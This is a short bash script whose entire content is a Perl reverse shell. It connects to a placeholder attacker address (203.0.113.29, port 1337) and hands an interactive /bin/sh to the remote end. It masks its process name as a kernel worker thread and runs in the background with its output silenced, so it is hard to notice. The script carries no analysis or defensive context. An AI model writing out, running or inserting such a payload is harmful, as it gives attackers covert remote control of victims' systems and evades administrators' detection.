#!/bin/bash
export PERL_BADLANG=0
I=203.0.113.29 P=1337
(
  perl -MSocket -e '
    $0="[kworker/u8:1]";
    socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));
    if(connect(S,sockaddr_in($ARGV[1],inet_aton($ARGV[0])))){
      open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");
      exec("/bin/sh -i");
    }' "$I" "$P" &
) >/dev/null 2>&1
sleep 1
exit 0
